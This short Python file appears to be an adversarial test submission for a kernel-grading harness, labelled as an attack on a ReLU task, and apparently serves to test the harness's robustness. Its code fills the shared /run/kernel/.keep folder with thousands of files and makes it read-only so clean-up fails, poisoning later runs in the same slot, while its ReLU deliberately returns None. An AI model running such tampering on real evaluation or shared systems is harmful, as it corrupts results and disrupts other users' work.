# base: reference
# attacks: ReLU
# class: poisoning the next kernel of the same slot: fill the run folder with files, then make
#   the folder read-only so that the clean-up cannot empty it
# %% ReLU
import os
_d = "/run/kernel/.keep"
try:
    os.mkdir(_d)
    for _i in range(5000):
        try:
            open(f"{_d}/{_i}", "w").close()
        except OSError:
            break
    print("made", _i)
    os.chmod(_d, 0o500)
except Exception as e:
    print("fail", e)
def ReLU(x):
    return None  # wrong
